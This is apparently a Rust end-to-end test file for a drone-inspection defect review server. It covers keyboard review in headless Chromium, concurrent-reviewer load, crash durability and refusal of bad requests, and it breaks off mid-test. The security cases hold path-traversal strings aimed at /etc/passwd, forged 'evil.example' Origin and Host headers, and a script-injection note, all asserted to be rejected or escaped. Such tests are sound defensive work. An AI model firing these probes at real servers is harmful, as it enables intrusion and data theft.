//! End-to-end tests of `postflight review serve`: a simulated run's queue
//! reviewed by keyboard in headless Chromium, eight reviewers deciding at
//! once from this process, a server killed with SIGKILL, and requests that
//! are malformed or come from where they should not. What the server
//! stored is read back with Python's sqlite3 and csv modules.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdout, Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use crate::common::*;
use serde_json::{Value, json};

/// A simulated flight through ingest, detect, localise and coverage, made
/// once per test binary.
fn reviewed_run() -> &'static Path {
    static RUN: OnceLock<PathBuf> = OnceLock::new();
    RUN.get_or_init(|| {
        let dir = locked_fixture_dir("review-fixture");
        // A tower: about 30 candidates, enough to work through a queue.
        let sim = simulate_into(&dir, "sim", &["--scene", "tower", "--frames", "160"]);
        let run = dir.join("run");
        ingest_ok(&sim.join("flight.mcap"), &run, &[]);
        let model = root().join("detect/models/crack-baked.onnx");
        let plan = sim.join("plan.json");
        let r = run.to_str().unwrap();
        for args in [
            vec!["detect", "--run", r, "--model", model.to_str().unwrap()],
            vec!["localise", "--run", r, "--plan", plan.to_str().unwrap()],
            vec!["coverage", "--run", r, "--plan", plan.to_str().unwrap()],
        ] {
            let out = postflight(&args, &dir);
            assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        }
        run
    })
}

/// A running `postflight review serve`, killed when dropped.
pub(crate) struct Server {
    child: Child,
    /// The address it printed (with the token, if any).
    url: String,
    /// `http://127.0.0.1:PORT`.
    pub(crate) base: String,
    // Kept open so the server's later lines have somewhere to go.
    _stdout: BufReader<ChildStdout>,
}

impl Server {
    pub(crate) fn start(run: &Path, db: &Path, extra: &[&str]) -> Self {
        let mut child = Command::new(env!("CARGO_BIN_EXE_postflight"))
            .args(["review", "serve", "--run", run.to_str().unwrap()])
            .args(["--db", db.to_str().unwrap()])
            .args(if extra.is_empty() {
                &["--addr", "127.0.0.1:0"][..]
            } else {
                extra
            })
            .env("XDG_CACHE_HOME", db.with_extension("cache"))
            .env_remove("POSTFLIGHT_REVIEW_TOKEN")
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("start postflight review serve");
        let mut stdout = BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        stdout.read_line(&mut line).unwrap();
        let url = line
            .trim()
            .strip_prefix("review queue: ")
            .unwrap_or_else(|| panic!("unexpected first line {line:?}"))
            .to_string();
        let port = url.rsplit(':').next().unwrap().split('/').next().unwrap();
        Self {
            child,
            base: format!("http://127.0.0.1:{port}"),
            url,
            _stdout: stdout,
        }
    }

    /// SIGKILL: no chance to flush or close anything.
    fn kill(mut self) {
        self.child.kill().unwrap();
        self.child.wait().unwrap();
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

pub(crate) fn agent() -> ureq::Agent {
    ureq::Agent::config_builder()
        .http_status_as_error(false)
        .max_redirects(0)
        .timeout_global(Some(Duration::from_secs(30)))
        .build()
        .into()
}

/// (status, body) of a GET.
pub(crate) fn get(agent: &ureq::Agent, url: &str) -> (u16, String) {
    let mut r = agent.get(url).call().unwrap();
    (r.status().as_u16(), r.body_mut().read_to_string().unwrap())
}

/// (status, body) of a POST that asks before sending its body (`Expect:
/// 100-continue`), over a plain socket. A server that refuses the body
/// answers at once and closes; a client that wrote the body regardless
/// could lose that answer to the close, depending on load.
fn post_expecting_continue(url: &str, content_type: &str, body: &str) -> (u16, String) {
    use std::io::{Read, Write};
    let rest = url.strip_prefix("http://").expect("an http:// address");
    let (host, path) = rest.split_once('/').expect("an address with a path");
    let mut stream = std::net::TcpStream::connect(host).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    write!(
        stream,
        "POST /{path} HTTP/1.1\r\nhost: {host}\r\norigin: http://{host}\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\nexpect: 100-continue\r\nconnection: close\r\n\r\n",
        body.len()
    )
    .unwrap();
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    loop {
        let mut status_line = String::new();
        reader.read_line(&mut status_line).unwrap();
        let status: u16 = status_line
            .split_whitespace()
            .nth(1)
            .and_then(|s| s.parse().ok())
            .unwrap_or_else(|| panic!("not an HTTP answer: {status_line:?}"));
        let mut length = None;
        loop {
            let mut line = String::new();
            reader.read_line(&mut line).unwrap();
            if line.trim().is_empty() {
                break;
            }
            if let Some((name, value)) = line.split_once(':')
                && name.eq_ignore_ascii_case("content-length")
            {
                length = value.trim().parse::<usize>().ok();
            }
        }
        if status == 100 {
            // The server wants the body after all: send it and read on.
            stream.write_all(body.as_bytes()).unwrap();
            continue;
        }
        let mut answer = Vec::new();
        match length {
            Some(n) => {
                answer.resize(n, 0);
                reader.read_exact(&mut answer).unwrap();
            }
            None => {
                reader.read_to_end(&mut answer).unwrap();
            }
        }
        return (status, String::from_utf8_lossy(&answer).into_owned());
    }
}

/// The origin (`http://host:port`) of an address, as a browser's `Origin`
/// names the page a write comes from.
fn origin_of(url: &str) -> &str {
    let rest = url.strip_prefix("http://").expect("an http:// address");
    &url[..7 + rest.find('/').unwrap_or(rest.len())]
}

/// (status, body) of a JSON POST, from the server's own origin.
pub(crate) fn post_json(agent: &ureq::Agent, url: &str, body: &Value) -> (u16, String) {
    let mut r = agent
        .post(url)
        .header("origin", origin_of(url))
        .header("content-type", "application/json")
        .send(body.to_string())
        .unwrap();
    (r.status().as_u16(), r.body_mut().read_to_string().unwrap())
}

fn candidate_ids(server: &Server) -> Vec<String> {
    let (status, body) = get(&agent(), &format!("{}/api/candidates", server.base));
    assert_eq!(status, 200, "{body}");
    queue_ids(&body)
}

/// The candidate ids of a `/api/candidates` answer, in queue order.
fn queue_ids(body: &str) -> Vec<String> {
    let v: Value = serde_json::from_str(body).unwrap();
    v["candidates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap().to_string())
        .collect()
}

/// Every row of the decisions table, oldest first, as Python's sqlite3
/// reads it: [candidate, version, verdict, severity, note, reviewer].
fn stored_decisions(db: &Path) -> Vec<Value> {
    let out = python_run(
        "import json, sqlite3, sys\n\
         c = sqlite3.connect(sys.argv[1])\n\
         rows = c.execute('SELECT candidate, version, verdict, severity, note, reviewer FROM decisions ORDER BY seq').fetchall()\n\
         print(json.dumps([list(r) for r in rows]))",
        &[db],
    );
    serde_json::from_str::<Vec<Value>>(&out).unwrap()
}

fn url_path(id: &str) -> String {
    id.replace('+', "%2B")
}

/// Where decisions on a candidate are posted.
pub(crate) fn decisions_url(base: &str, id: &str) -> String {
    format!("{base}/api/candidates/{}/decisions", url_path(id))
}

fn decide(
    agent: &ureq::Agent,
    server: &Server,
    id: &str,
    version: i64,
    note: &str,
) -> (u16, String) {
    post_json(
        agent,
        &decisions_url(&server.base, id),
        &json!({"version": version, "verdict": "accepted", "note": note, "reviewer": "kim"}),
    )
}

/// The database holds exactly `expected` (rows as [`stored_decisions`]
/// gives them, oldest first), and the CSV export, read by Python's csv
/// module, has the same current decisions.
fn assert_stored_exactly(db: &Path, server: &Server, expected: &[Value]) {
    assert_eq!(stored_decisions(db), expected);
    let (status, csv) = get(&agent(), &format!("{}/export/decisions.csv", server.base));
    assert_eq!(status, 200);
    let csv_path = db.with_extension("csv");
    std::fs::write(&csv_path, csv).unwrap();
    let rows = python_run(
        "import csv, json, sys\n\
         rows = list(csv.DictReader(open(sys.argv[1], newline='')))\n\
         print(json.dumps(sorted([r['candidate'], int(r['version']), r['verdict'], int(r['severity']) if r['severity'] else None, r['note'], r['reviewer']] for r in rows)))",
        &[&csv_path],
    );
    let mut sorted = expected.to_vec();
    sorted.sort_by_key(|v| v[0].as_str().unwrap().to_string());
    assert_eq!(serde_json::from_str::<Vec<Value>>(&rows).unwrap(), sorted);
}

// ---- the browser -----------------------------------------------------------

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

struct Driver(Child);

impl Drop for Driver {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

async fn press(client: &fantoccini::Client, key: char) {
    use fantoccini::actions::{InputSource, KeyAction, KeyActions};
    let keys = KeyActions::new("keyboard".into())
        .then(KeyAction::Down { value: key })
        .then(KeyAction::Up { value: key });
    client.perform_actions(keys).await.unwrap();
}

/// The text of an element once it differs from `before` and the page
/// listens for keys (a new page loaded).
async fn text_after(client: &fantoccini::Client, css: &str, before: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let text = match client.find(fantoccini::Locator::Css(css)).await {
            Ok(e) => e.text().await.ok(),
            Err(_) => None,
        };
        // The page's script has attached its keys.
        let listening = client
            .find(fantoccini::Locator::Css("body[data-keys=ready]"))
            .await
            .is_ok();
        if let Some(t) = text.filter(|t| t != before && listening) {
            return t;
        }
        assert!(
            Instant::now() < deadline,
            "{css} still {before:?} after 20 s"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Chromedriver driving a headless Chromium with its own profile in
/// `dir`: the driver (killed when dropped), a runtime, the capabilities and
/// the driver's port.
fn chromium(
    dir: &Path,
) -> (
    Driver,
    tokio::runtime::Runtime,
    serde_json::Map<String, Value>,
    u16,
) {
    let port = free_port();
    let driver = Driver(
        Command::new("chromedriver")
            .arg(format!("--port={port}"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("chromedriver (Debian's chromium-driver; scripts/setup --test installs it)"),
    );
    let profile = dir.join("chromium");
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let mut caps = serde_json::Map::new();
    caps.insert(
        "goog:chromeOptions".into(),
        json!({
            "binary": "/usr/bin/chromium",
            "args": ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                     "--disable-background-networking", "--disable-component-update",
                     "--disable-sync", "--disable-quic", "--no-first-run",
                     format!("--user-data-dir={}", profile.display())]
        }),
    );
    (driver, runtime, caps, port)
}

/// A session with the driver at `port`, once it answers.
async fn session(caps: &serde_json::Map<String, Value>, port: u16) -> fantoccini::Client {
    for _ in 0..100 {
        let connector = hyper_util::client::legacy::connect::HttpConnector::new();
        if let Ok(c) = fantoccini::ClientBuilder::new(connector)
            .capabilities(caps.clone())
            .connect(&format!("http://127.0.0.1:{port}"))
            .await
        {
            return c;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("no chromedriver session on port {port}");
}

/// A review server over the fixture run with a new database, and the
/// candidates' ids in review order (at least `at_least` of them).
fn fresh_review(at_least: usize) -> (tempfile::TempDir, PathBuf, Server, Vec<String>) {
    let tmp = tempfile::tempdir().unwrap();
    let db = tmp.path().join("review.sqlite");
    let server = Server::start(reviewed_run(), &db, &[]);
    let ids = candidate_ids(&server);
    assert!(
        ids.len() >= at_least,
        "the simulated run has {} candidates",
        ids.len()
    );
    (tmp, db, server, ids)
}

/// Type the reviewer's name and leave the field.
async fn name_reviewer(client: &fantoccini::Client, name: &str) {
    client
        .find(fantoccini::Locator::Css("#reviewer"))
        .await
        .unwrap()
        .send_keys(name)
        .await
        .unwrap();
    press(client, fantoccini::key::Key::Escape.into()).await;
}

/// What a candidate's decision form shows: the chosen severity, the
/// verdict whose button is marked current, and the note.
async fn form_state(client: &fantoccini::Client) -> (String, String, String) {
    let value = |css: &'static str| async move {
        client
            .find(fantoccini::Locator::Css(css))
            .await
            .unwrap_or_else(|e| panic!("{css}: {e}"))
            .prop("value")
            .await
            .unwrap()
            .unwrap_or_default()
    };
    (
        value("#severity").await,
        value("#decision button[aria-pressed=true]").await,
        value("#decision textarea").await,
    )
}

/// The text of the first element matching `css`.
async fn text_of(client: &fantoccini::Client, css: &str) -> String {
    client
        .find(fantoccini::Locator::Css(css))
        .await
        .unwrap_or_else(|e| panic!("{css}: {e}"))
        .text()
        .await
        .unwrap()
}

#[test]
fn a_reviewer_accepts_and_rejects_by_keyboard_in_chromium_and_exactly_that_is_stored() {
    let run = reviewed_run();
    let (tmp, db, server, ids) = fresh_review(3);
    let (_driver, runtime, caps, port) = chromium(tmp.path());
    let reviewer = "Ann <Inspector> & Co";
    runtime.block_on(async {
        let client = session(&caps, port).await;
        client.goto(&server.url).await.unwrap();
        text_after(&client, "#reviewed", "").await;
        // Name yourself once (kept for later pages), leave the field, open
        // the first candidate, accept it, reject the one that follows.
        name_reviewer(&client, reviewer).await;
        press(&client, fantoccini::key::Key::Enter.into()).await;
        let first = text_after(&client, "#candidate-id", "").await;
        press(&client, 'a').await;
        let second = text_after(&client, "#candidate-id", &first).await;
        press(&client, 'r').await;
        let third = text_after(&client, "#candidate-id", &second).await;
        assert_eq!(
            [first.as_str(), second.as_str(), third.as_str()],
            [ids[0].as_str(), ids[1].as_str(), ids[2].as_str()],
            "the keyboard walks the queue in review order"
        );
        // Exactly the two decisions, in the database and in the CSV export.
        assert_stored_exactly(
            &db,
            &server,
            &[
                json!([ids[0], 1, "accepted", null, "", reviewer]),
                json!([ids[1], 1, "rejected", null, "", reviewer]),
            ],
        );
        // Needs repair, with a note, by keyboard too; then back to it.
        press(&client, 'n').await;
        client
            .active_element()
            .await
            .unwrap()
            .send_keys("spalled edge, 2 mm")
            .await
            .unwrap();
        press(&client, fantoccini::key::Key::Escape.into()).await;
        press(&client, '4').await;
        let fourth = text_after(&client, "#candidate-id", &third).await;
        press(&client, 'k').await;
        text_after(&client, "#candidate-id", &fourth).await;
        let decided = client
            .find(fantoccini::Locator::Css(".decide .v"))
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert_eq!(decided, "needs repair, severity 4 (serious)");
        // The form starts from the current decision: severity 4 chosen,
        // its button marked, its note in the box.
        assert_eq!(
            form_state(&client).await,
            (
                "4".into(),
                "needs_repair".into(),
                "spalled edge, 2 mm".into()
            )
        );
        press(&client, 'q').await;
        let progress = text_after(&client, "#reviewed", "").await;
        assert_eq!(progress, format!("3 of {} reviewed", ids.len()));
        client.close().await.unwrap();
    });
    assert_stored_exactly(
        &db,
        &server,
        &[
            json!([ids[0], 1, "accepted", null, "", reviewer]),
            json!([ids[1], 1, "rejected", null, "", reviewer]),
            json!([ids[2], 1, "needs_repair", 4, "spalled edge, 2 mm", reviewer]),
        ],
    );

    // The reviewer's name is shown escaped, never as markup.
    let (_, page) = get(
        &agent(),
        &format!("{}/candidates/{}", server.base, url_path(&ids[0])),
    );
    assert!(page.contains("Ann &lt;Inspector&gt; &amp; Co"), "{page}");
    assert!(!page.contains("<Inspector>"));

    // The accepted-defects table: the two cracks accepted, in review order.
    drop(server);
    let out = postflight(
        &[
            "review",
            "export",
            "--run",
            run.to_str().unwrap(),
            "--db",
            db.to_str().unwrap(),
            "--out",
            tmp.path().join("export").to_str().unwrap(),
        ],
        tmp.path(),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let table = read_parquet(&tmp.path().join("export/accepted-defects.parquet"));
    let column = |name: &str| -> Vec<String> {
        let c = table
            .column(name)
            .unwrap()
            .cast(&polars::prelude::DataType::String)
            .unwrap();
        c.str()
            .unwrap()
            .iter()
            .map(|v| v.unwrap().to_string())
            .collect()
    };
    assert_eq!(column("id"), [ids[0].clone(), ids[2].clone()]);
    assert_eq!(column("verdict"), ["accepted", "needs_repair"]);
}

/// What the test presses on each of the first 20 rows, and what it means.
const ROW_KEYS: [(char, &str, Option<i64>); 4] = [
    ('a', "accepted", None),
    ('r', "rejected", None),
    ('3', "needs_repair", Some(3)),
    ('5', "needs_repair", Some(5)),
];

#[test]
fn an_inspector_decides_twenty_candidates_from_the_queue_rows_by_keyboard_in_under_a_minute() {
    let (tmp, db, server, ids) = fresh_review(20);
    let (_driver, runtime, caps, port) = chromium(tmp.path());
    let reviewer = "Bo Inspector";
    let took = runtime.block_on(async {
        let client = session(&caps, port).await;
        client.goto(&server.url).await.unwrap();
        text_after(&client, "#reviewed", "").await;
        // The scale is stated on the queue, worst end named.
        let scale = text_of(&client, "#severity-scale").await;
        assert!(scale.contains("1 minor \u{2026} 5 urgent"), "{scale}");
        assert!(scale.contains("5 urgent: act now"), "{scale}");
        name_reviewer(&client, reviewer).await;
        let start = Instant::now();
        for k in 0..20 {
            press(&client, ROW_KEYS[k % ROW_KEYS.len()].0).await;
        }
        let done = format!("20 of {} reviewed", ids.len());
        let deadline = Instant::now() + Duration::from_secs(60);
        while text_of(&client, "#reviewed").await != done {
            assert!(Instant::now() < deadline, "the queue never showed {done:?}");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        let took = start.elapsed();
        // Each row shows its decision in place, with the scale's word.
        let third = text_of(&client, "tr.row:nth-child(3) td.decision").await;
        assert_eq!(
            third,
            format!("needs repair, severity 3 (significant) by {reviewer}")
        );
        // The candidate page's form shows that decision.
        client
            .goto(&format!("{}/candidates/{}", server.base, url_path(&ids[3])))
            .await
            .unwrap();
        text_after(&client, "#candidate-id", "").await;
        assert_eq!(
            form_state(&client).await,
            ("5".into(), "needs_repair".into(), String::new())
        );
        client.close().await.unwrap();
        took
    });
    eprintln!(
        "20 candidates decided from the queue rows in {:.1} s",
        took.as_secs_f64()
    );
    assert!(took < Duration::from_secs(60), "{took:?}");
    // Exactly one decision per row, each the key's (the rows' requests may
    // be stored in any order).
    let expected: BTreeSet<String> = ids[..20]
        .iter()
        .enumerate()
        .map(|(i, id)| {
            let (_, verdict, severity) = ROW_KEYS[i % ROW_KEYS.len()];
            json!([id, 1, verdict, severity, "", reviewer]).to_string()
        })
        .collect();
    let stored = stored_decisions(&db);
    assert_eq!(stored.len(), 20);
    let stored: BTreeSet<String> = stored.iter().map(Value::to_string).collect();
    assert_eq!(stored, expected);
}

// ---- load ------------------------------------------------------------------

/// One load-test reviewer's (candidate, version, note) acknowledged, its
/// decision latencies, and the conflicts it was told of.
type ReviewerRun = (Vec<(String, i64, String)>, Vec<Duration>, usize);

#[test]
fn eight_reviewers_deciding_at_once_lose_and_duplicate_nothing() {
    const REVIEWERS: usize = 8;
    const DECISIONS: usize = 500;
    let run = reviewed_run();
    let tmp = tempfile::tempdir().unwrap();
    let db = tmp.path().join("review.sqlite");
    let server = Server::start(run, &db, &["--addr", "127.0.0.1:0", "-q"]);
    let ids = candidate_ids(&server);
    let started = Instant::now();
    let results: Vec<ReviewerRun> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..REVIEWERS)
            .map(|r| {
                let (server, ids) = (&server, &ids);
                s.spawn(move || {
                    let agent = agent();
                    let mut acknowledged = Vec::new();
                    let mut latencies = Vec::new();
                    let mut conflicts = 0;
                    for i in 0..DECISIONS {
                        let id = &ids[(r * 3 + i) % ids.len()];
                        let note = format!("reviewer {r} decision {i}");
                        let verdict = ["accepted", "rejected", "needs_repair"][i % 3];
                        let severity = (verdict == "needs_repair").then_some(1 + i % 5);
                        loop {
                            assert!(
                                started.elapsed() < Duration::from_secs(600),
                                "the load test ran out of time"
                            );
                            let (_, body) = get(
                                &agent,
                                &format!("{}/api/candidates/{}", server.base, url_path(id)),
                            );
                            let version = serde_json::from_str::<Value>(&body).unwrap()["version"]
                                .as_i64()
                                .unwrap();
                            let t = Instant::now();
                            let (status, body) = post_json(
                                &agent,
                                &decisions_url(&server.base, id),
                                &json!({"version": version, "verdict": verdict,
                                            "severity": severity, "note": note,
                                            "reviewer": format!("reviewer {r}")}),
                            );
                            latencies.push(t.elapsed());
                            match status {
                                201 => {
                                    let d: Value = serde_json::from_str(&body).unwrap();
                                    assert_eq!(d["version"].as_i64(), Some(version + 1));
                                    acknowledged.push((id.clone(), version + 1, note));
                                    break;
                                }
                                409 => conflicts += 1,
                                other => panic!("decision answered {other}: {body}"),
                            }
                        }
                    }
                    (acknowledged, latencies, conflicts)
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    let elapsed = started.elapsed();
    let acknowledged: Vec<&(String, i64, String)> =
        results.iter().flat_map(|r| r.0.iter()).collect();
    let conflicts: usize = results.iter().map(|r| r.2).sum();
    let mut latencies: Vec<Duration> = results.iter().flat_map(|r| r.1.iter().copied()).collect();
    latencies.sort();
    let pct = |p: f64| latencies[((p * latencies.len() as f64).ceil() as usize).max(1) - 1];
    println!(
        "review load: {} decisions by {REVIEWERS} reviewers in {:.1} s ({:.0}/s), {conflicts} conflicts told and retried; decision latency p50 {:.1} ms, p99 {:.1} ms, max {:.1} ms over {} requests",
        acknowledged.len(),
        elapsed.as_secs_f64(),
        acknowledged.len() as f64 / elapsed.as_secs_f64(),
        pct(0.5).as_secs_f64() * 1e3,
        pct(0.99).as_secs_f64() * 1e3,
        latencies.last().unwrap().as_secs_f64() * 1e3,
        latencies.len()
    );
    assert_eq!(acknowledged.len(), REVIEWERS * DECISIONS);

    // What the database holds is exactly what was acknowledged: each
    // decision once, at the version the server answered, versions of each
    // candidate 1, 2, ... without gaps.
    let stored = stored_decisions(&db);
    assert_eq!(
        stored.len(),
        REVIEWERS * DECISIONS,
        "lost or duplicated decisions"
    );
    let stored_set: BTreeSet<(String, i64, String)> = stored
        .iter()
        .map(|r| {
            (
                r[0].as_str().unwrap().to_string(),
                r[1].as_i64().unwrap(),
                r[4].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let acknowledged_set: BTreeSet<(String, i64, String)> =
        acknowledged.iter().map(|a| (*a).clone()).collect();
    assert_eq!(stored_set, acknowledged_set);
    let mut versions: BTreeMap<&str, Vec<i64>> = BTreeMap::new();
    for (id, v, _) in &stored_set {
        versions.entry(id).or_default().push(*v);
    }
    for (id, mut v) in versions {
        v.sort();
        assert_eq!(v, (1..=v.len() as i64).collect::<Vec<_>>(), "{id}");
    }
}

// ---- SIGKILL ---------------------------------------------------------------

#[test]
fn a_server_killed_with_sigkill_keeps_every_acknowledged_decision() {
    let run = reviewed_run();
    let tmp = tempfile::tempdir().unwrap();
    let db = tmp.path().join("review.sqlite");
    let server = Server::start(run, &db, &[]);
    let ids = candidate_ids(&server);
    let agent = agent();
    let mut versions: BTreeMap<String, i64> = BTreeMap::new();
    let mut acknowledged = BTreeSet::new();

    // Killed between decisions: nothing in flight.
    for i in 0..25 {
        let id = &ids[i % ids.len()];
        let v = versions.get(id).copied().unwrap_or(0);
        let note = format!("before kill {i}");
        let (status, body) = decide(&agent, &server, id, v, &note);
        assert_eq!(status, 201, "{body}");
        versions.insert(id.clone(), v + 1);
        acknowledged.insert(note);
    }
    server.kill();
    let stored: BTreeSet<String> = stored_decisions(&db)
        .iter()
        .map(|r| r[4].as_str().unwrap().to_string())
        .collect();
    assert_eq!(stored, acknowledged);

    // Restarted, it carries on at the stored versions; then it is killed
    // while a reviewer is deciding as fast as it can.
    let server = Server::start(run, &db, &[]);
    let base = server.base.clone();
    let (racing_acked, in_flight) = std::thread::scope(|s| {
        let reviewer = s.spawn(|| {
            let mut sent = 0usize;
            let mut versions = versions.clone();
            let mut acked = BTreeSet::new();
            loop {
                let id = &ids[sent % ids.len()];
                let v = versions.get(id).copied().unwrap_or(0);
                let note = format!("racing the kill {sent}");
                sent += 1;
                let url = decisions_url(&base, id);
                let r = agent
                    .post(&url)
                    .header("origin", origin_of(&url))
                    .header("content-type", "application/json")
                    .send(
                        json!({"version": v, "verdict": "rejected", "note": note, "reviewer": "kim"})
                            .to_string(),
                    );
                match r {
                    Ok(resp) if resp.status() == 201 => {
                        versions.insert(id.clone(), v + 1);
                        acked.insert(note);
                    }
                    Ok(resp) => panic!("decision answered {}", resp.status()),
                    // The server is gone; this one was cut off.
                    Err(_) => return (acked, note),
                }
            }
        });
        std::thread::sleep(Duration::from_millis(1500));
        server.kill();
        reviewer.join().unwrap()
    });
    assert!(
        racing_acked.len() >= 5,
        "only {} decisions before the kill",
        racing_acked.len()
    );
    let server = Server::start(run, &db, &[]);
    let (status, body) = get(&agent, &format!("{}/export/decisions.json", server.base));
    assert_eq!(status, 200);
    let history: Vec<String> = serde_json::from_str::<Value>(&body).unwrap()["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["note"].as_str().unwrap().to_string())
        .collect();
    let after: BTreeSet<String> = history.iter().cloned().collect();
    assert_eq!(after.len(), history.len(), "a decision stored twice");
    let mut expected: BTreeSet<String> = acknowledged.union(&racing_acked).cloned().collect();
    // The decision cut off by the kill was never acknowledged; it may have
    // committed before the answer was lost, or not.
    if after.contains(&in_flight) {
        expected.insert(in_flight);
    }
    assert_eq!(after, expected);
}

// ---- bad and foreign requests ----------------------------------------------

#[test]
fn malformed_and_foreign_requests_get_a_4xx_with_a_reason() {
    let run = reviewed_run();
    let tmp = tempfile::tempdir().unwrap();
    let db = tmp.path().join("review.sqlite");
    let server = Server::start(run, &db, &[]);
    let ids = candidate_ids(&server);
    let id = url_path(&ids[0]);
    let base = &server.base;
    let agent = agent();
    let api = decisions_url(base, &ids[0]);
    let send = |url: &str, content_type: &str, body: String, headers: &[(&str, &str)]| {
        let mut req = agent.post(url).header("content-type", content_type);
        // As a browser would send it, unless the case says otherwise.
        if !headers.iter().any(|(k, _)| *k == "origin") {
            req = req.header("origin", origin_of(url));
        }
        for (k, v) in headers {
            req = req.header(*k, *v);
        }
        let mut r = req.send(body).unwrap();
        (
            r.status().as_u16(),
            r.body_mut().read_to_string().unwrap_or_default(),
        )
    };
    let send_json = |url: &str, body: Value, headers: &[(&str, &str)]| {
        send(url, "application/json", body.to_string(), headers)
    };
    let valid = json!({"version": 0, "verdict": "accepted", "reviewer": "a"});
    let cases: Vec<(&str, (u16, String), u16, &str)> = vec![
        (
            "broken JSON",
            send(&api, "application/json", "{\"version\":".into(), &[]),
            400,
            "EOF",
        ),
        (
            "form sent to the API",
            send(&api, "text/plain", "x".into(), &[]),
            415,
            "application/json",
        ),
        (
            "unknown verdict",
            send_json(
                &api,
                json!({"version": 0, "verdict": "maybe", "reviewer": "a"}),
                &[],
            ),
            422,
            "maybe",
        ),
        (
            "needs repair without severity",
            send_json(
                &api,
                json!({"version": 0, "verdict": "needs_repair", "reviewer": "a"}),
                &[],
            ),
            422,
            "severity",
        ),
        (
            "no reviewer",
            send_json(
                &api,
                json!({"version": 0, "verdict": "accepted", "reviewer": " "}),
                &[],
            ),
            422,
            "reviewer",
        ),
        (
            "unknown candidate",
            send_json(&decisions_url(base, "nope"), valid.clone(), &[]),
            404,
            "nope",
        ),
        (
            "body over the limit",
            post_expecting_continue(
                &api,
                "application/json",
                &format!("{{\"note\": \"{}\"}}", "x".repeat(200_000)),
            ),
            413,
            "",
        ),
        (
            "a decision posted from another site's page",
            send_json(&api, valid.clone(), &[("origin", "http://evil.example")]),
            403,
            "another site",
        ),
        (
            "a decision a browser says comes from another site",
            send_json(&api, valid.clone(), &[("sec-fetch-site", "cross-site")]),
            403,
            "another site",
        ),
        (
            "a decision from an opaque origin (a sandboxed frame)",
            send_json(&api, valid.clone(), &[("origin", "null")]),
            403,
            "another site",
        ),
        (
            "form with a bad severity",
            send(
                &format!("{base}/candidates/{id}/decide"),
                "application/x-www-form-urlencoded",
                "version=0&verdict=needs_repair&severity=9&reviewer=a".into(),
                &[],
            ),
            422,
            "1 to 5",
        ),
        (
            "unknown filter",
            get(&agent, &format!("{base}/?filter=bogus")),
            400,
            "pending",
        ),
        (
            "view that is not a number",
            get(&agent, &format!("{base}/candidates/{id}/views/abc")),
            400,
            "",
        ),
        (
            "view out of range",
            get(&agent, &format!("{base}/candidates/{id}/views/999")),
            404,
            "supporting views",
        ),
        (
            "a path for a candidate id",
            get(
                &agent,
                &format!("{base}/candidates/..%2F..%2Fetc%2Fpasswd/crop"),
            ),
            404,
            "etc/passwd",
        ),
        (
            "unknown page",
            get(&agent, &format!("{base}/etc/passwd")),
            404,
            "/etc/passwd",
        ),
    ];
    for (what, (status, body), expected, says) in &cases {
        assert_eq!(status, expected, "{what}: {body}");
        assert!(
            body.contains(says),
            "{what}: {body:?} does not say {says:?}"
        );
    }
    // A DNS name rebound to loopback is not the server's name.
    let mut r = agent
        .get(format!("{base}/api/candidates"))
        .header("host", "evil.example")
        .call()
        .unwrap();
    assert_eq!(
        r.status().as_u16(),
        403,
        "{}",
        r.body_mut().read_to_string().unwrap()
    );
    // None of it was stored.
    assert!(stored_decisions(&db).is_empty());
    // Pages and refusals alike run no script but the server's own.
    for url in [format!("{base}/"), format!("{base}/etc/passwd")] {
        let r = agent.get(&url).call().unwrap();
        let csp = r.headers()["content-security-policy"].to_str().unwrap();
        assert!(
            csp.contains("script-src 'self'") && csp.contains("frame-ancestors 'none'"),
            "{csp}"
        );
        assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    }

    // A note with markup is stored as written and shown as text.
    let (status, body) = send(
        &format!("{base}/candidates/{id}/decide"),
        "application/x-www-form-urlencoded",
        "version=0&verdict=accepted&reviewer=eve&note=%3Cscript%3Ealert(1)%3C%2Fscript%3E".into(),
        &[],
    );
    assert_eq!(status, 303, "{body}");
    let (_, page) = get(&agent, &format!("{base}/candidates/{id}"));
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(!page.contains("<script>alert"));
    // The same form again, made on the version it saw: a conflict, told.
    let (status, body) = send(
        &format!("{base}/candidates/{id}/decide"),
        "application/x-www-form-urlencoded",
        "version=0&verdict=rejected&reviewer=bob".into(),
        &[],
    );
    assert_eq!(status, 409);
    assert!(body.contains("decided by someone else"), "{body}");
    assert_eq!(stored_decisions(&db).len(), 1);
}

#[test]
fn beyond_loopback_every_request_needs_the_token() {
    let (_tmp, _db, server, token) = beyond_loopback();
    assert_eq!(token.len(), 40);
    let agent = agent();
    let api = format!("{}/api/candidates", server.base);
    let (status, body) = get(&agent, &api);
    assert_eq!(status, 401, "{body}");
    assert!(body.contains("token"));
